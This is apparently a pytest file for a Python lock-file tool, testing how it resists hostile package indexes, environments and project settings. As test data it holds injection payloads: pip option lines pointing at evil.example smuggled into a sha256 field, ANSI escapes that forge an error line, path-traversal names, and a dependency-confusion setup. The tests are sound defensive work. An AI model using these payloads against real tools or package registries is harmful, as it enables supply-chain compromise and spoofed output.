"""The trust-boundary catalog (issue 12): what a hostile index, file host, cache or
environment tried, and what must happen instead. Same table form and the same shared rules
as `test_catalog` (exit code, one line naming the fault, no traceback, no secret anywhere,
a failed command changes no project file), run by its `run_case`."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.fakeindex import Release
from tests.fakeindex.backend import BUILD_LOG
from tests.test_catalog import (
    PROJECT,
    RELEASES,
    Case,
    Step,
    World,
    both,
    lock_has,
    lock_lacks,
    other_never_asked,
    params,
    pyproject,
    run_case,
    world,  # noqa: F401 - the fixture the cases run in
)

INJECTED = (
    "\n--extra-index-url http://evil.example/simple/\n--trusted-host evil.example\nevilpkg==6.6.6"
)
BAD_NUMBERS = (("TIMEOUT", "0"), ("TIMEOUT", "-1"), ("TIMEOUT", "nan"), ("TIMEOUT", "inf"),
               ("RETRIES", "inf"))  # fmt: skip
# A private sdist-only project that needs a private helper to build, and an attacker's
# helper of the same name, a higher version and an sdist, on the public extra index.
BUILT_PRIVATELY = (
    Release(
        "secretpkg",
        "1.0",
        requires_dist=("leaf",),
        wheels=(),
        dynamic=("Requires-Dist",),
        build_requires=("internal-helper",),
    ),
    Release("internal-helper", "1.0"),
    Release("leaf", "1.1"),
)
HELPER_ON_PUBLIC = (Release("internal-helper", "99.0", wheels=()),)
TERMINAL_ATTACK = "\x1b[2J\x1b]0;OWNED\x07\rerror: fake line"


def json_files(path: str, change: Callable[[list[dict[str, object]]], None]) -> Step:
    """The index's JSON page at `path` rewritten by `change` (HTML pages left alone)."""

    def rewrite(body: bytes) -> bytes:
        try:
            page = json.loads(body)
        except ValueError:
            return body
        change(page["files"])
        return json.dumps(page).encode()

    return lambda w: w.index.rewrite(path, rewrite)


def inject_hash(files: list[dict[str, object]]) -> None:
    for entry in files:
        entry["hashes"] = {"sha256": "a" * 64 + INJECTED}


def add_spaced_release(files: list[dict[str, object]]) -> None:
    """A `leaf-9.0 ` wheel (a space in the version) pointing at leaf 1.1's real bytes."""
    real = next(f for f in files if str(f["filename"]).startswith("leaf-1.1-"))
    files.append({**real, "filename": "leaf-9.0 -py3-none-any.whl"})


def deep_groups(depth: int) -> str:
    chain = [f'g{i} = [{{include-group = "g{i + 1}"}}]' for i in range(depth)]
    return "[dependency-groups]\n" + "\n".join([*chain, f'g{depth} = ["leaf"]'])


def hooks_run(w: World) -> list[str]:
    """What the fake backends logged: "<name> <version> <hook>" per hook run."""
    log = Path(w.fill("{root}")).parent / "build-hooks.log"
    return log.read_text().splitlines() if log.exists() else []


def only_the_private_build_ran(w: World, result: object) -> None:
    assert hooks_run(w) == ["secretpkg 1.0 get_requires_for_build_wheel",
                            "secretpkg 1.0 prepare_metadata_for_build_wheel"]  # fmt: skip
    build = (w.root / "requirements/base.build.lock.txt").read_text()
    assert "internal-helper==1.0" in build


def no_raw_control_characters(w: World, result: object) -> None:
    text = getattr(result, "err", "") + getattr(result, "out", "")
    assert not any(c in text for c in "\x1b\x07\r"), repr(text)
    assert "\\x1b]0;OWNED\\x07\\rerror: fake line" in text


CASES = [
    Case(
        "hash-value-injects-lines",
        "A JSON page's sha256 carries pip option lines: the page is refused where it enters "
        "(exit 4, naming the file), and no lock is written (item 5).",
        ("compile",),
        4,
        ("/simple/app-dep/", "unreadable index page", "sha256 is not 64 hex digits"),
        setup=(json_files("/simple/app-dep/", inject_hash),),
    ),
    Case(
        "file-name-with-a-space",
        "`leaf-9.0 -py3-none-any.whl` is no release pip could find: leaf stays 1.1 (item 9).",
        ("compile",),
        0,
        setup=(json_files("/simple/leaf/", add_spaced_release),),
        check=both(lock_has("leaf==1.1"), lock_lacks("9.0")),
    ),
    Case(
        "yank-reason-terminal-escapes",
        "A yank reason that clears the screen, retitles the window and forges an error line "
        "is shown escaped, in a terminal or a pipe (item 10).",
        ("compile",),
        0,
        releases=(*RELEASES, Release("ansi", "1.0", yanked=TERMINAL_ATTACK)),
        files={"pyproject.toml": pyproject(("ansi==1.0",))},
        check=no_raw_control_characters,
    ),
    *(
        Case(
            f"pip-{name.lower()}-{value}",
            f"{name}={value} is bad input naming the setting, not a traceback (item 11).",
            ("compile",),
            2,
            (f"PIP_{name}", f"{value!r}"),
            env={f"PIP_{name}": value},
        )
        for name, value in BAD_NUMBERS
    ),
    Case(
        "include-group-1000-deep",
        "A 1,000-deep include-group chain is read without a RecursionError (item 11).",
        ("check",),
        1,
        ("requirements/g999.lock.txt", "missing"),
        files={"pyproject.toml": PROJECT + deep_groups(1000)},
    ),
    Case(
        "build-requirement-confusion",
        "secretpkg (private, sdist only, Requires-Dist dynamic) needs internal-helper to "
        "build; the public extra index offers internal-helper 99.0 as an sdist. Its build "
        "requirements come from reqlock's own first-index resolution: the public index is "
        "never asked, no 99.0 backend runs, secretpkg is built with the private 1.0 "
        "(item 1).",
        ("compile", "--extra-index-url", "{other}"),
        0,
        files={"pyproject.toml": pyproject(("secretpkg",))},
        releases=BUILT_PRIVATELY,
        other=HELPER_ON_PUBLIC,
        env={BUILD_LOG: "{root}/../build-hooks.log"},
        check=both(
            lock_has("secretpkg==1.0", "leaf==1.1"), other_never_asked, only_the_private_build_ran
        ),
    ),
    Case(
        "flags-over-project-indexes",
        "The project's extra index with unsafe-best-match, compiled with --extra-index-url: "
        "the flag's index alone is searched and written, still with the project's strategy "
        "(one precedence rule; item 12).",
        ("compile", "--extra-index-url", "{url}"),
        0,
        files={
            "pyproject.toml": PROJECT.replace(
                "[tool.reqlock]",
                '[tool.reqlock]\nextra-index-url = ["{other}"]\n'
                'index-strategy = "unsafe-best-match"',
            )
        },
        other=(Release("app-dep", "9.0"),),
        check=both(
            other_never_asked,
            lock_has("--extra-index-url {url}", "app-dep==2.0"),
            lock_lacks("{other}"),
        ),
    ),
]


def symlinked_requirements(w: World) -> None:
    """requirements/ is a symlink to a folder outside the project holding a lock."""
    outside = w.root.parent / "elsewhere"
    outside.mkdir()
    (outside / "base.lock.txt").write_text("precious\n")
    (w.root / "requirements").symlink_to(outside, target_is_directory=True)


def outside_untouched(w: World, _: object) -> None:
    assert (w.root.parent / "elsewhere/base.lock.txt").read_text() == "precious\n"


# Issue 14 item 6: writes never escape the project, and layer names are names.
CASES += [
    *(
        Case(
            f"output-dir-{label}",
            f"output-dir = {value!r} would write locks outside the project: bad input.",
            ("compile",),
            2,
            ("pyproject.toml", "[tool.reqlock].output-dir", "inside the project", value),
            files={
                "pyproject.toml": PROJECT.replace(
                    "[tool.reqlock]", f'[tool.reqlock]\noutput-dir = "{value}"'
                )
            },
        )
        for label, value in (("parent", "../../.."), ("absolute", "/tmp/reqlock-out"))
    ),
    Case(
        "requirements-symlinked-outside",
        "A symlinked requirements/ pointing out of the project: nothing is written there.",
        ("compile",),
        2,
        ("requirements/base.lock.txt", "outside the project"),
        setup=(symlinked_requirements,),
        check=outside_untouched,
    ),
    Case(
        "group-name-with-slashes",
        'A group named "../../x" would become requirements/-/-/x.lock.txt: refused.',
        ("compile",),
        2,
        ("pyproject.toml", "[dependency-groups].../../x", "group name is not a valid name"),
        files={"pyproject.toml": PROJECT + '[dependency-groups]\n"../../x" = ["leaf"]\n'},
    ),
    Case(
        "in-file-name-with-a-newline",
        "An .in file whose name holds a newline would break the lock header: refused.",
        ("check",),
        2,
        ("requirements/dev\\nx.in", "the file name is not a valid name"),
        files={"requirements/base.in": "leaf\n", "requirements/dev\nx.in": "-r base.in\n"},
    ),
]


@pytest.mark.parametrize("world", params(CASES), indirect=True)
def test_trust_catalog(world: World) -> None:  # noqa: F811 - the fixture, by its name
    run_case(world)
